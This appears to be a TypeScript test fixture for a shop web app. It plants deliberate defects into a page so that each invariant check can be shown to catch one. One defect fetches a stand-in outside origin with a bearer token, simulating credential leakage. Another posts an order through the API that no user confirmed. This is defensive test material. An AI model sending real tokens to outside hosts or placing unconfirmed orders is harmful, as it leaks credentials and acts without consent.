import type { Stage } from './stage'

/** A defect that a test plants into the page once the fault shows, and the invariant that must find it. */
export type Planted = { readonly foundBy: string; readonly plant: (stage: Stage) => Promise<unknown> }

/** One for each invariant but (ii): what the console says is looked at when the page closes. */
export const defects: Readonly<Record<string, Planted>> = {
  'a blank page': {
    foundBy: '(i)',
    plant: ({ page }) => page.evaluate(() => document.querySelector<HTMLElement>('#root')?.replaceChildren()),
  },
  'a cart that is wiped on failure': {
    foundBy: '(iii)',
    plant: ({ page }) => page.evaluate(() => localStorage.removeItem('cart')),
  },
  'an order that nobody confirmed': {
    foundBy: '(iv)',
    plant: async ({ context, page, language }) => {
      const token = await page.evaluate(() => localStorage.getItem('authToken'))
      const headers = { Authorization: `Bearer ${token}` }
      const query = `email=buyer@acme.test&embed=shippingAddresses.province,shippingAddresses.country&lang=${language}`
      const customers = await context.request.get(`/api/customers/ACME?${query}`, { headers })
      const { data } = (await customers.json()) as {
        data: readonly { id: number; shipping_addresses: readonly { id: number; type: string }[] }[]
      }
      const cart = await page.evaluate(() => JSON.parse(localStorage.getItem('cart') ?? '{}').lines[0].product)
      const header = {
        customer_id: data[0]?.id,
        sale_date: '2026-01-02',
        shipping_address_id: data[0]?.shipping_addresses.find(({ type }) => type === 'S')?.id,
        purchase_order: '',
        note: '',
      }
      const items = [{ puom_id: cart.default_puom_id, sale_qty: 1, price: cart.selling_price, comment: '' }]
      const answer = await context.request.post('/api/orders/ACME', {
        headers,
        data: { header, items, lang: language },
      })
      if (!answer.ok()) throw new Error(await answer.text())
    },
  },
  'a token that is sent elsewhere': {
    foundBy: '(v)',
    plant: async ({ context, page }) => {
      const origin = 'https://docs.other.test'
      await context.route(`${origin}/**`, (route) =>
        route.fulfill({ headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' } }),
      )
      await page.evaluate((to) => fetch(to, { headers: { Authorization: 'Bearer secret' } }), `${origin}/about.html`)
    },
  },
  'a button without a name': {
    foundBy: '(vi)',
    plant: ({ page }) => page.evaluate(() => document.querySelector('main')?.append(document.createElement('button'))),
  },
  'a Retry that is missing': {
    foundBy: '(vii)',
    plant: ({ page, t }) =>
      page.evaluate((name) => {
        for (const button of document.querySelectorAll('button')) if (button.textContent === name) button.remove()
      }, t('common.retry')),
  },
  'a focus that is lost': {
    foundBy: '(viii)',
    plant: ({ page }) => page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur()),
  },
}
